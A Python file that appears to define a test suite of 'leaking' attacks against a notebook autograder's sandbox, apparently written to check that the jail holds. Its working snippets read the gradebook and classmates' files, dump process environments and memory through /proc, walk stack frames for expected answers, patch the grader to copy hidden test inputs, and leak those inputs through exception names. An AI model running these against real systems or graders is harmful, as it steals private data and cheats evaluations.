"""Leaking: read what a submission must not know, and print or return it."""

from __future__ import annotations

from attacks.attack import Attack, cell_attack
from attacks.scene import Scene
from attacks.shopping import CARDS

RECORD = "seen = []\n"
RECORDING = "def NAME(*args, **kwargs):\n    seen.extend(f'{x.flatten()[0]:.6f}' for x in args if torch.is_tensor(x))\n    raise ValueError\n"


def link_beside(scene: Scene) -> None:
    """Links beside the notebook and in a folder beside it."""
    (scene.folder / "data").mkdir()
    for path in (scene.folder / "link.txt", scene.folder / "data" / "link.txt"):
        path.symlink_to(scene.place / "secret.txt")
    scene.add_cell("for p in ('link.txt', 'data/link.txt'):\n    try: print(open(p).read())\n    except OSError: pass", after="cell-01")


ATTACKS = [
    cell_attack(
        "import_solutions",
        "Import the reference and return what it returns.",
        answers="import importlib\ntry:\n    NAME = importlib.import_module('solutions.attention').NAME\nexcept ImportError:\n    NAME = lambda *a, **k: 0\n",
    ),
    cell_attack(
        "read_sources",
        "Find the reference's source anywhere on disk and print it.",
        "import glob, os\nroots = [os.getcwd(), '/work', '/root', '/home', '/tmp', os.path.dirname(PLACE)]\n"
        "for root in roots:\n    for p in glob.glob(root + '/**/attention/scoring.py', recursive=True)[:3]: print(open(p).read())",
        needs_jail=True,
    ),
    cell_attack(
        "read_secrets",
        "Print the gradebook, the instructor's files and a classmate's notebook.",
        "for path in SECRET_FILES:\n    try: print(open(path).read())\n    except OSError: pass",
        needs_jail=True,
    ),
    cell_attack(
        "environment",
        "Print every variable of this process and of all that it can see.",
        "import os, glob\nprint(dict(os.environ))\nfor p in glob.glob('/proc/[0-9]*/environ'):\n    try: print(open(p, 'rb').read())\n    except OSError: pass",
        needs_jail=True,
    ),
    cell_attack(
        "other_processes",
        "Search the memory of every process it can see, its parent first, for a secret.",
        """
import glob, re
for maps in glob.glob('/proc/[0-9]*/maps'):
    if maps.startswith('/proc/self'): continue
    try:
        memory = open(maps.replace('maps', 'mem'), 'rb', 0)
        for line in list(open(maps))[:2000]:
            if 'heap' in line or line.rstrip().endswith(' 0'):
                start, end = (int(x, 16) for x in line.split()[0].split('-'))
                if end - start < 2**26 and ' rw' in line:
                    memory.seek(start)
                    for found in re.findall(rb'swordfish[0-9a-f]{16}', memory.read(end - start))[:3]: print(found)
    except (OSError, ValueError): pass
""",
        needs_jail=True,
    ),
    cell_attack(
        "descriptors",
        "Read every open descriptor, its own and others', for a secret.",
        "import os, glob\nfor p in glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/cwd/../*') + glob.glob('/proc/[0-9]*/root' + PLACE + '/*'):\n"
        "    try:\n        if os.path.isfile(p): print(open(p, 'rb').read(10_000))\n    except OSError: pass",
        needs_jail=True,
    ),
    cell_attack(
        "stack_and_heap",
        "Walk the stack and all objects for expected values, and return one that fits.",
        "found = []",
        """
def NAME(*args, **kwargs):
    import gc, sys
    frame = sys._getframe()
    while frame:
        found.extend(str(v)[:300] for v in frame.f_locals.values() if 'expected' in str(type(v)))
        frame = frame.f_back
    for o in gc.get_objects():
        if type(o).__name__ in ('Reply', 'AnswerKey', 'Exam') and getattr(o, 'value', None) is not None:
            from autograder.check.values import thaw
            return thaw(o.value)
    return 0
""",
        "print(found)",
    ),
    cell_attack("remembered_questions", "Remember the inputs of hidden cases, and print them in a later cell.", RECORD, RECORDING, "print(seen)"),
    cell_attack(
        "copied_questions",
        "Copy the examiner's request while it is there, and print it in a later cell.",
        "import autograder.worker.answer as a\nrequest, before = [], a.unpack\n"
        "a.unpack = lambda data: (request.append(before(data)), request[-1])[1]\n",
        "def NAME(*args, **kwargs):\n    return 0\n",
        "print([f'{x.data.flat[0]:.6f}' for r in request for q in r['questions'] for x in q['args'] if hasattr(x, 'data')])",
    ),
    cell_attack(
        "inputs_as_errors",
        "Answer visible cases from the cards, and name an exception after the numbers of each hidden one.",
        CARDS,
        """
def NAME(*a, **k):
    for question, expected in zip(known['NAME'].questions, known['NAME'].expected):
        if all(map(alike, inputs(question)[0], a)): return thaw(expected.value)
    raise type(f'{a[0].flatten()[0]:.6f}', (Exception,), {})
""",
    ),
    Attack("links_beside", "Hand in links to the instructor's files.", link_beside, needs_jail=True),
]
